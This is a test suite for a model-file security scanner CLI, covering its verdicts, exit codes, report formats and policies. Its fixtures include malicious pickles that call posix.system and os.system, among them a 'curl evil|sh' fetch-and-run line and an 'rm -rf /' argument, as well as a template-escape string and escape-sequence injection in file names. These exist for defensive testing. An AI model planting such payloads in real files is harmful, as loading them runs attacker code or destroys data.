"""`mscope scan` as people and CI servers use it: verdicts, exit codes, formats, policies, folders."""

from __future__ import annotations

import csv
import json
import os
import re
import time

import pytest

from tests.builders.attacks import ATTACKS, CANARY
from tests.builders.pickle_code import call, instance, pickled
from tests.builders.safetensors_file import safetensors_bytes
from tests.builders.samples import SAMPLES
from tests.builders.torch_code import ordered, tensor
from tests.builders.torch_file import torch_zip_bytes
from tests.command import mscope, process, words

EVIL = torch_zip_bytes(call("posix.system", f"touch {CANARY}"), stem="evil")


@pytest.fixture
def here(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "index.pkl").write_bytes(EVIL)
    (tmp_path / "good.pt").write_bytes(SAMPLES["state_dict.pt"])
    (tmp_path / "shop.pkl").write_bytes(pickled(instance("shop.Model")))
    (tmp_path / "odd.pkl").write_bytes(pickled(call("copy.copy", 1)))
    (tmp_path / "evil.pt").write_bytes(EVIL)
    (tmp_path / "cut.pt").write_bytes(SAMPLES["state_dict.pt"][:-30])
    (tmp_path / "README.md").write_text("# A model\n")
    yield tmp_path
    assert not (tmp_path / CANARY).exists()


@pytest.mark.parametrize(
    ("arguments", "code"),
    [
        (["good.pt"], 0), (["shop.pkl"], 0), (["odd.pkl"], 1), (["evil.pt"], 1), (["cut.pt"], 3), (["none.pt"], 3), (["README.md"], 3),
        (["shop.pkl", "--fail-on", "unknown"], 1), (["odd.pkl", "--fail-on", "dangerous"], 0), (["evil.pt", "--fail-on", "dangerous"], 1),
        (["evil.pt", "--fail-on", "never"], 0), (["cut.pt", "evil.pt"], 1), (["cut.pt", "good.pt"], 3), (["cut.pt", "--fail-on", "never"], 3),
        (["good.pt", "--fail-on", "sometimes"], 2), (["good.pt", "-f", "pdf"], 2),
        (["good.pt", "-f", "junit"], 2), (["good.pt", "-o", "x.xml"], 2), ([], 2), (["good.pt", "--limit", "no=1"], 2),
        (["good.pt", "--policy", "none.toml"], 2), (["good.pt", "-o", "good.pt"], 2),
    ],
)  # fmt: skip
def test_exit_codes(here, arguments, code):
    assert mscope("scan", *arguments).code == code


def test_what_a_person_reads(here):
    done = mscope("scan", "evil.pt", columns=100)
    assert done.out.splitlines()[:3] == [
        "Path                           evil.pt",
        "Verdict                        dangerous: loading it can run what its author wanted",
        f"Size                           {len(EVIL)} B",
    ]
    assert "weights_only=True)  refuses" in done.out
    assert re.search(r"dangerous  evil/data.pkl byte \d+  it calls posix.system\('touch", done.out)
    assert "✗ Do not load the file." in done.out
    assert re.search(r"\ndangerous  posix.system +1  byte 2 ", done.out)
    assert "\nbytes are counted from the beginning of evil/data.pkl\n" in done.out
    assert "Not looked at" not in done.out


def test_what_a_person_reads_of_an_honest_file(here):
    done = mscope("scan", "good.pt", columns=100)
    assert "safe: loading it executes nothing but what weights need" in done.out
    assert re.search(r"\nsafe     torch._utils._rebuild_tensor_v2 +\d+ ", done.out)
    assert "What to do" not in done.out


@pytest.mark.parametrize("hidden", ["#" + " " * 60 + "\ncurl evil|sh", "x" * 500 + "curl evil|sh", "a\n" * 300 + "curl evil|sh"])
def test_the_end_of_an_argument_is_shown_and_machines_get_all_of_it(here, hidden):
    (here / "long.pkl").write_bytes(pickled(call("os.system", hidden)))
    assert "curl evil|sh')" in mscope("scan", "long.pkl", columns=200).out
    for format in ("json", "sarif"):
        document = json.loads(mscope("scan", "long.pkl", "-f", format).out)
        found = document["checkpoints"][0]["findings"][0] if format == "json" else document["runs"][0]["results"][0]["properties"]
        assert found["evidence"] == f"os.system({hidden!r})"
    (here / "many.pkl").write_bytes(pickled(call("subprocess.Popen", [str(number) for number in range(30)] + ["rm -rf /"])))
    assert re.search(r"24|25 more", mscope("scan", "many.pkl", columns=200).out)
    assert "'rm -rf /'" in mscope("scan", "many.pkl", columns=200).out


def test_nothing_to_scan_is_no_success(here):
    (here / "empty").mkdir()
    done = mscope("scan", "empty")
    assert (done.code, done.out) == (3, "")
    assert "empty: no files to scan" in done.err
    (here / "bare" / ".git").mkdir(parents=True)
    (here / "bare" / ".git" / "x.pkl").write_bytes(EVIL)
    bare = mscope("scan", "bare")
    assert bare.code == 3
    assert "bare/.git: a repository's own files: left out" in bare.err
    assert mscope("scan", "bare/.git").code == 1


def test_a_file_is_scanned_once_and_own_outputs_never(here):
    for expected in (0, 0):
        (here / "set").mkdir(exist_ok=True)
        (here / "set" / "good.pt").write_bytes(SAMPLES["state_dict.pt"])
        done = mscope("scan", "set/good.pt", "set", "set/good.pt", "-o", "set/scan.sarif", "-o", "set/scan.json")
        assert (done.code, done.err) == (expected, "")
        (report,) = json.loads((here / "set" / "scan.json").read_text())["checkpoints"]
        assert (report["file_count"], len(report["files"])) == (1, 1)


def test_files_that_cannot_be_opened_have_a_row(here):
    (here / "set").mkdir()
    (here / "set" / "good.pt").write_bytes(SAMPLES["state_dict.pt"])
    (here / "set" / "gone.pt").symlink_to(here / "nothing")
    done = mscope("scan", "set", columns=100)
    assert done.code == 3
    assert "1 safe, 1 not read" in done.out
    assert re.search(r"not read  gone.pt  a symbolic link to something that is not there", done.out)
    (report,) = json.loads(mscope("scan", "set", "-f", "json").out)["checkpoints"]
    assert {(os.path.basename(row["path"]), row["verdict"]) for row in report["files"]} == {("good.pt", "safe"), ("gone.pt", "not read")}
    alone = mscope("scan", "set/gone.pt", columns=100)
    assert (alone.code, "Verdict  not read" in alone.out) == (3, True)


def test_annotations_name_the_file(here):
    done = mscope("scan", "good.pt", "evil.pt", "odd.pkl", "--github")
    assert re.search(r"^::error title=dangerous-import,file=evil.pt::evil/data.pkl byte \d+: it calls posix.system", done.out, re.M)
    assert re.search(r"^::warning title=suspicious-import,file=odd.pkl::byte \d+", done.out, re.M)
    assert "and 2 more" not in "".join(line for line in done.out.splitlines() if line.startswith("::"))


def test_markdown_keeps_a_call_in_one_piece(here):
    done = mscope("scan", "evil.pt", "-f", "markdown")
    assert f"it calls `posix.system('touch {CANARY}')`: `posix.system` " in done.out


def test_a_folder(here):
    done = mscope("scan", ".", columns=120)
    assert done.code == 1
    lines = done.out.splitlines()
    table = lines[lines.index("Verdict     File       Why") + 1 :][:5] if "Verdict     File       Why" in lines else lines
    assert words(done.out).startswith("Path . Verdict 1 dangerous, 1 suspicious, 2 unknown, 1 safe, 1 not judged; 1 folder was not looked at Files 6")
    assert "./.git: a repository's own files: left out" in done.out
    order = [
        line.split()[0] for line in table if line.split() and line.split()[0] in ("dangerous", "suspicious", "unknown", "safe")
    ]
    assert order[:3] == ["dangerous", "suspicious", "unknown"]
    assert re.search(r"not judged +README.md +this is a text file", done.out)
    assert "index.pkl" not in done.out


def test_every_width(here):
    for columns in (60, 100, 160):
        done = mscope("scan", ".", columns=columns)
        assert max(len(line) for line in done.out.splitlines()) <= columns


def test_two_hundred_files(here):
    folder = here / "many"
    folder.mkdir()
    for number in range(200):
        (folder / f"m{number:03}.safetensors").write_bytes(safetensors_bytes({"w": ("F32", (2,))}))
    (folder / "m100.bin").write_bytes(ATTACKS["reduce"][0])
    began = time.monotonic()
    done = mscope("scan", "many")
    assert time.monotonic() - began < 20
    assert (done.code, done.err) == (1, "")
    assert words(done.out).startswith("Path many Verdict 1 dangerous, 200 safe Files 201")
    assert re.search(r"141 more files +141 safe", done.out)
    document = json.loads(mscope("scan", "many", "-f", "json").out)
    assert len(document["checkpoints"][0]["files"]) == 201


def test_json_has_everything(here):
    done = mscope("scan", "evil.pt", "shop.pkl", "-f", "json")
    document = json.loads(done.out)
    assert (document["schema"], document["errors"]) == ("mscope.scan/1", [])
    (report,) = document["checkpoints"]
    assert (report["verdict"], report["file_count"]) == ("dangerous", 2)
    assert [(row["path"], row["verdict"]) for row in report["files"]] == [("evil.pt", "dangerous"), ("shop.pkl", "unknown")]
    (found, other) = report["findings"]
    assert (found["level"], found["code"], found["member"], found["subject"], found["opcode"]) == (
        "dangerous", "dangerous-import", "evil/data.pkl", "posix.system", "REDUCE",
    )  # fmt: skip
    assert (other["code"], other["member"]) == ("unjudged-import", "")
    assert {(row["module"], row["name"], row["level"]) for row in report["imports"]} == {
        ("posix", "system", "dangerous"), ("shop", "Model", "unknown"),
    }  # fmt: skip
    assert report["calls"][0]["call"] == f"posix.system('touch {CANARY}')"
    assert report["not_looked_at"] == []


def test_sarif_is_sarif(here):
    """The properties that SARIF 2.1.0 requires, and those that GitHub does."""
    done = mscope("scan", "evil.pt", "odd.pkl", "cut.pt", "shop.pkl", "-f", "sarif")
    document = json.loads(done.out)
    assert document["version"] == "2.1.0"
    assert document["$schema"].endswith("sarif-schema-2.1.0.json")
    for rule in document["runs"][0]["tool"]["driver"]["rules"]:  # what GitHub shows beside an alert
        assert all(rule[key]["text"].endswith(".") for key in ("fullDescription", "help")), rule["id"]
        assert rule["shortDescription"]["text"]
        assert rule["name"].isalnum()
        assert rule["name"] != rule["id"]
    (run,) = document["runs"]
    rules = run["tool"]["driver"]["rules"]
    assert run["tool"]["driver"]["name"] == "modelscope-cli"
    assert len({rule["id"] for rule in rules}) == len(rules)
    assert run["invocations"][0]["executionSuccessful"] is False
    assert any("cut.pt" in note["message"]["text"] for note in run["invocations"][0]["toolExecutionNotifications"])
    levels = set()
    for result in run["results"]:
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]
        assert result["message"]["text"]
        place = result["locations"][0]["physicalLocation"]
        assert place["artifactLocation"]["uri"] in ("evil.pt", "odd.pkl", "cut.pt", "shop.pkl")
        assert place["region"]["startLine"] == 1
        assert place["region"].get("byteOffset", 0) >= 0
        assert re.fullmatch(r"[0-9a-f]{16}:1", result["partialFingerprints"]["primaryLocationLineHash"])
        levels.add(result["level"])
    assert levels == {"error", "warning", "note"}
    evil = next(result for result in run["results"] if result["level"] == "error")
    assert evil["locations"][0]["logicalLocations"][0]["fullyQualifiedName"] == "evil.pt/evil/data.pkl"


def test_sarif_says_what_only_a_policy_makes_safe(here):
    """As suppressed results; then every result of the run has `suppressions` (SARIF 2.1.0, 3.27.23)."""
    (here / "net.yaml").write_text("net:\n  _target_: os.system\n")
    (here / "ours.toml").write_text('[[allow]]\nnames = ["posix.system", "os.system", "collections.*"]\nreason = "our\\u001b own"\n')
    done = mscope("scan", "evil.pt", "net.yaml", "good.pt", "shop.pkl", "--policy", "ours.toml", "-f", "sarif")
    (run,) = json.loads(done.out)["runs"]
    ids = [rule["id"] for rule in run["tool"]["driver"]["rules"]]
    allowed = [result for result in run["results"] if result["ruleId"] == "allowed-by-policy"]
    others = [result for result in run["results"] if result["ruleId"] != "allowed-by-policy"]
    assert (done.code, ids.count("allowed-by-policy")) == (0, 1)
    assert [(result["ruleId"], result["suppressions"]) for result in others] == [("unjudged-import", [])]
    said = "posix.system allowed by ours.toml (dangerous without it: it starts programs) (evil/data.pkl, byte 2)"
    assert [result["message"]["text"] for result in allowed][:1] == [said]
    assert [result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for result in allowed] == ["evil.pt", "net.yaml"]
    for result in allowed:
        (suppression,) = result["suppressions"]
        assert result["level"] == "note"
        assert set(suppression) == {"kind", "status", "justification"}
        assert (suppression["kind"], suppression["status"]) == ("external", "accepted")
        assert suppression["justification"].endswith("own (allowed by ours.toml)")
        assert "\x1b" not in suppression["justification"]
    (report,) = json.loads(mscope("scan", "evil.pt", "net.yaml", "--policy", "ours.toml", "-f", "json").out)["checkpoints"]
    row = report["allowed"][0]
    assert (row["path"], row["name"], row["level"]) == ("evil.pt", "posix.system", "dangerous")


def test_sarif_without_a_policy_has_no_suppressions(here):
    assert "suppressions" not in mscope("scan", "evil.pt", "shop.pkl", "-f", "sarif").out


def test_sarif_of_a_check(here):
    done = mscope("check", "good.pt", "--max-size", "1 B", "-f", "sarif")
    (result,) = json.loads(done.out)["runs"][0]["results"]
    assert (result["ruleId"], result["level"]) == ("max-size", "error")


def test_documents_from_one_scan(here):
    files = ["out.json", "out.sarif", "out.md", "out.html", "out.csv", "out.tsv"]
    done = mscope("scan", "evil.pt", "good.pt", *[part for file in files for part in ("-o", file)])
    assert (done.code, done.err) == (1, "")
    assert "dangerous" in done.out  # the log has the verdict whatever goes into files
    for file in files:
        text = (here / file).read_text(encoding="utf-8")
        assert "dangerous" in text, file
        assert "posix.system" in text, file
    for file, between in (("out.csv", ","), ("out.tsv", "\t")):  # a row says which file it is about
        rows = list(csv.DictReader((here / file).read_text(encoding="utf-8").splitlines(), delimiter=between))
        assert {row["path"]: row["verdict"] for row in rows} == {"evil.pt": "dangerous", "good.pt": "safe"}


def test_a_policy(here):
    (here / "ours.toml").write_text(
        '[[allow]]\nnames = ["shop.*"]\nreason = "ours"\n[[deny]]\nnames = ["collections.OrderedDict"]\nreason = "no"\n'
    )
    done = mscope("scan", "shop.pkl", "--fail-on", "unknown", "--policy", "ours.toml")
    assert (done.code, done.err) == (0, "")
    assert mscope("scan", "good.pt", "--policy", "ours.toml").code == 1
    (here / "bad.toml").write_text("[[allow]]\nnames = ['shop.*']\n")
    refused = mscope("scan", "shop.pkl", "--policy", "bad.toml")
    assert (refused.code, "say why" in words(refused.err)) == (2, True)


def test_the_policy_and_the_level_of_mscope_toml(here):
    (here / "rules").mkdir()
    (here / "rules" / "names.toml").write_text('[[allow]]\nnames = ["shop.*"]\nreason = "ours"\n')
    (here / "mscope.toml").write_text('[scan]\npolicy = "rules/names.toml"\nfail-on = "unknown"\n')
    assert mscope("scan", "shop.pkl", "--config", "mscope.toml").code == 0
    assert mscope("scan", "shop.pkl").code == 1  # found, not named: it makes nothing milder
    (here / "mscope.toml").write_text('[scan]\nfail-on = "unknown"\n')
    assert mscope("scan", "shop.pkl").code == 1
    assert mscope("scan", "shop.pkl", "--fail-on", "suspicious").code == 0
    folder = here / "download"
    folder.mkdir()
    (folder / "mscope.toml").write_text('[scan]\nfail-on = "never"\n')
    (folder / "evil.pt").write_bytes(EVIL)
    assert mscope("scan", "download").code == 1


def test_links_are_told_or_judged_by_what_they_are_called(here):
    folder = here / "linked"
    folder.mkdir()
    (folder / "a.txt").write_bytes(SAMPLES["state_dict.pt"])
    (folder / "b.pt").symlink_to(folder / "a.txt")
    (folder / "elsewhere").symlink_to(here, target_is_directory=True)
    done = mscope("scan", "linked", columns=120)
    assert done.code == 0
    assert "2 safe" in done.out
    assert "linked/elsewhere: a link to a folder: left out, name it to have it scanned" in words(done.out)


def test_hostile_names_are_shown_and_not_sent(here):
    odd = "m\x1b[31m\n::error::x"
    (here / "odd.pt").write_bytes(torch_zip_bytes({"x": call(f"os.{odd.replace(chr(10), '')}", "\x1b]0;x\x07")}, stem=odd))
    for format in ("table", "json", "sarif", "markdown", "csv", "html"):
        done = mscope("scan", "odd.pt", "-f", format)
        assert "\x1b" not in done.out, format
        assert "\x07" not in done.out, format
        assert "\n::error" not in done.out, format


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_what_is_no_file_in_a_folder(here):
    os.mkfifo(here / "pipe.pt")
    (here / "loop").symlink_to(here)
    (here / "gone.pt").symlink_to(here / "nothing")
    done = process("scan", ".")
    assert done.returncode == 1
    assert "3 files could not be read, or not to the end: cut.pt, gone.pt, pipe.pt" in done.stderr
    assert "FIFO" in done.stdout
    assert "a symbolic link to something that is not there" in words(done.stdout)


def test_missing_shards_are_told_of_a_folder(here):
    folder = here / "set"
    folder.mkdir()
    (folder / "model-00001-of-00002.safetensors").write_bytes(safetensors_bytes({"w": ("F32", (2,))}))
    index = {"weight_map": {"w": "model-00001-of-00002.safetensors", "v": "model-00002-of-00002.safetensors"}}
    (folder / "model.safetensors.index.json").write_text(json.dumps(index))
    done = mscope("scan", "set")
    assert (done.code, "model-00002-of-00002.safetensors" in done.err) == (3, True)


def test_chat_templates_are_shown_as_text(here):
    (here / "tokenizer_config.json").write_text(json.dumps({"chat_template": "{{ ''.__class__ }} hello"}))
    done = mscope("scan", "tokenizer_config.json")
    assert done.code == 1
    assert "{{ ''.__class__ }} hello" in done.out
    assert "__class__: a way out of a template engine" in words(done.out)


def test_help_tells_levels_and_exit_codes():
    done = mscope("scan", "--help")
    for word in ("safe", "unknown", "suspicious", "dangerous", "--fail-on", "--policy", "Exit codes"):
        assert word in done.out


def test_an_optimizer_beside_a_model_is_judged_too(here):
    (here / "optimizer.bin").write_bytes(torch_zip_bytes(ordered({"w": tensor()}), {"0": 24}))
    assert mscope("scan", "optimizer.bin").code == 0
